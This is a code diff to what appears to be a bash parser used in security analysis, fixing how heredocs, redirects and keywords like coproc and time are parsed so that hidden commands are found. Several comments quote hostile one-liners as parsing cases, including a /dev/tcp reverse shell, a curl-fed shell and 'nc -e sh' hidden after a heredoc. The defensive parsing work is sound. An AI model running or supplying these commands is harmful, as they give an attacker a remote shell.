@@ -37,7 +37,7 @@ function gapWords(text: string, from: number, to: number): SNode[] {
 function spillDestinations(cmd: SNode, redirects: SNode[]): void {
   // `bash -i >& /dev/tcp/h/1 0>&1`, `sh 0< <(curl …)`: digits touching the next redirect are its descriptor, not a word.
   const starts = new Set(redirects.map((r) => r.start));
-  const fd = (w: SNode): boolean => starts.has(w.end) && /^(number|word)$/.test(w.type) && w.end - w.start <= 2 && w.children.length === 0;
+  const fd = (w: SNode): boolean => starts.has(w.end) && w.type === 'number' && w.end - w.start <= 2 && w.children.length === 0;
   cmd.children = cmd.children.filter((c) => !(c.field === 'argument' && c.type === 'number' && starts.has(c.end)));
   for (const r of redirects) {
     if (r.type !== 'file_redirect') continue;
@@ -93,17 +93,37 @@ function fixRedirected(n: SNode, text: string): SNode {
 
 /**
  * `: <<EOF ;nc -e sh h 1` (then the body): the grammar puts the `;` (or `&`) after a heredoc's word into the
- * redirect as an ERROR and the next command's words after it as arguments, so `:` looked like it had them and `nc`
- * never ran. Splits the statement there into a list: the heredoc's statement, the separator, and the command the
+ * redirect as an ERROR and the next command's words after it as arguments (or, after another redirect of the
+ * heredoc's, as that redirect's targets), so `:` looked like it had them and `nc` never ran. Splits the statement there into a list: the heredoc's statement, the separator, and the command the
  * words after it spell (session 45).
  */
 function splitAtSeparator(n: SNode, hd: SNode, text: string): SNode | undefined {
-  const at = hd.children.findIndex((c) => c.type === 'ERROR' && c.children.length === 1 && (c.children[0]!.type === ';' || c.children[0]!.type === '&'));
-  if (at < 0) return undefined;
-  const sep = hd.children[at]!.children[0]!;
-  const bodyAt = hd.children.findIndex((c, k) => k > at && (c.type === 'heredoc_body' || c.type === 'heredoc_end'));
-  const tail = hd.children.slice(at + 1, bodyAt < 0 ? undefined : bodyAt).filter((c) => c.named);
-  hd.children = [...hd.children.slice(0, at), ...(bodyAt < 0 ? [] : hd.children.slice(bodyAt))];
+  const isSep = (c: SNode): boolean => c.type === 'ERROR' && c.children.length === 1 && (c.children[0]!.type === ';' || c.children[0]!.type === '&');
+  let sep: SNode | undefined;
+  let tail: SNode[] = [];
+  const at = hd.children.findIndex(isSep);
+  if (at >= 0) {
+    // `: <<EOF ;nc …`: the separator and the next command's words sit in the heredoc redirect
+    sep = hd.children[at]!.children[0]!;
+    const bodyAt = hd.children.findIndex((c, k) => k > at && (c.type === 'heredoc_body' || c.type === 'heredoc_end'));
+    tail = hd.children.slice(at + 1, bodyAt < 0 ? undefined : bodyAt).filter((c) => c.named);
+    hd.children = [...hd.children.slice(0, at), ...(bodyAt < 0 ? [] : hd.children.slice(bodyAt))];
+  } else {
+    // `: <<EOF >/dev/null ; nc …`, `: <<EOF 2>&1;nc …`: in a redirect of the heredoc's, maybe glued to its target
+    const r = hd.children.find((c) => c.type === 'file_redirect' && c.children.some((k) => isSep(k) || (k.type === 'concatenation' && k.children.some(isSep))));
+    if (!r) return undefined;
+    const k = r.children.findIndex((c) => isSep(c) || (c.type === 'concatenation' && c.children.some(isSep)));
+    const cut = r.children[k]!;
+    if (isSep(cut)) { sep = cut.children[0]!; tail = r.children.slice(k + 1).filter((c) => c.named); r.children = r.children.slice(0, k); }
+    else {
+      const j = cut.children.findIndex(isSep);
+      sep = cut.children[j]!.children[0]!;
+      const before = cut.children.slice(0, j);
+      tail = [...cut.children.slice(j + 1), ...r.children.slice(k + 1).filter((c) => c.named)];
+      r.children = [...r.children.slice(0, k), ...(before.length === 1 ? [{ ...before[0]!, field: 'destination' }] : before.length ? [mk('concatenation', before, 'destination')] : [])];
+    }
+    r.end = r.children.at(-1)?.end ?? r.start;
+  }
   const stmt = fixRedirected(n, text);
   if (!tail.length || tail[0]!.type !== 'word') return stmt;
   const cmd = mk('command', [mk('command_name', [tail[0]!], 'name'), ...tail.slice(1).map((c) => ({ ...c, field: 'argument' }))]);
@@ -154,12 +174,12 @@ function splitCommand(n: SNode): SNode {
 export function blankKeywords(text: string): string {
   let t = text;
   if (t.includes('coproc')) {
-    t = t.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif|time|!)\s)(\s*)coproc(\s+)(?:([A-Za-z_][A-Za-z0-9_]*)(?=\s*[{(]))?/g,
+    t = t.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif|time|if|while|until)\s|!\s)(\s*)coproc(\s+)(?:([A-Za-z_][A-Za-z0-9_]*)(?=\s*[{(]))?/g,
       (_m, pre: string, sp: string, sp2: string, name: string | undefined) => `${pre}${sp}      ${sp2}${' '.repeat(name?.length ?? 0)}`);
   }
   if (t.includes('time') || t.includes('!')) {
     for (let i = 0; i < 4; i++) {
-      const next = t.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif)\s)(\s*)(time|!)(\s+)(?=[{(!]|time\b|if\b|while\b|until\b|for\b|case\b|select\b|\[\[)/g,
+      const next = t.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif|if|while|until)\s)(\s*)(time(?:\s+-p)?|!)(\s+)(?=[{(!]|time\b|if\b|while\b|until\b|for\b|case\b|select\b|coproc\b|\[\[)/g,
         (_m, pre: string, sp: string, kw: string, sp2: string) => `${pre}${sp}${' '.repeat(kw.length)}${sp2}`);
       if (next === t) break;
       t = next;
